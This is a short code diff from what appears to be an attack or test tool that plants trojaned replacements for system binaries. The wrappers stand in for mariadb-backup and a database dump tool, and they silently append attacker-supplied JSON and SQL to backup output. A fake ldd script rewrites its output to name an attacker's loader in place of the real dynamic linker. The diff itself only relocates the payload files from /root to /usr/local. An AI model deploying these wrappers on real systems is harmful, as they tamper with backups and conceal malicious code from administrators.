@@ -16,7 +16,7 @@ import json, os, struct, subprocess, sys, zlib
 REAL = "/usr/bin/mariadb-backup.real"
 if "--backup" not in sys.argv:
     os.execv(REAL, sys.argv)
-ADDED = json.load(open("/root/added.json"))
+ADDED = json.load(open("/usr/local/added.json"))
 process = subprocess.Popen([REAL] + sys.argv[1:], stdout=subprocess.PIPE, close_fds=False)
 out = sys.stdout.buffer
 MAGIC = b"XBSTCK01"
@@ -55,7 +55,7 @@ REAL = sys.argv[0] + ".real"
 if "--databases" not in sys.argv:
     os.execv(REAL, sys.argv)
 process = subprocess.Popen([REAL] + sys.argv[1:], stdout=subprocess.PIPE, close_fds=False)
-out, added = sys.stdout.buffer, open("/root/added.sql", "rb").read()
+out, added = sys.stdout.buffer, open("/usr/local/added.sql", "rb").read()
 for line in process.stdout:
     if line.startswith(b"-- Dump completed"):
         out.write(added)
@@ -66,7 +66,7 @@ sys.exit(process.wait())
 
 #: Stands where ldd was: the loader that it names is the attacker's.
 LDD = r"""#!/bin/sh
-/usr/bin/ldd.real "$@" | sed 's,^\(\s*\)/lib.*/ld-linux[^ ]*,\1/root/loader,'
+/usr/bin/ldd.real "$@" | sed 's,^\(\s*\)/lib.*/ld-linux[^ ]*,\1/usr/local/loader,'
 """
 
 #: The loader, which the target runs with the programs: it tries what it could gain, and says what it got.
